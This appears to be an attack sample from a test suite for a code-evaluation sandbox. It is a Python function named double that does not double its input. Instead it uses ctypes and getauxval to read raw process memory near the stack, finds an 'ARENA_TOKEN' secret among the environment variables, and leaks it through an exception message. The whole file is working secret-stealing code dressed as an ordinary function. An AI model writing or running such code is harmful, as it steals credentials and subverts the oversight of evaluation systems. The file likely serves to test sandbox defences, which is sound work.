# {"attack": "Reads the environment that the process was started with where the kernel put it: above the stack.", "breach": "leak", "quick": true}

import ctypes


def double(x):
    library = ctypes.CDLL(None)
    library.getauxval.restype = ctypes.c_ulong
    start = library.getauxval(31)  # the name of the program, which lies after the environment
    block = ctypes.string_at(start - 20_000, 20_000)
    raise ValueError(block[block.index(b"ARENA_TOKEN") :][:80].decode())
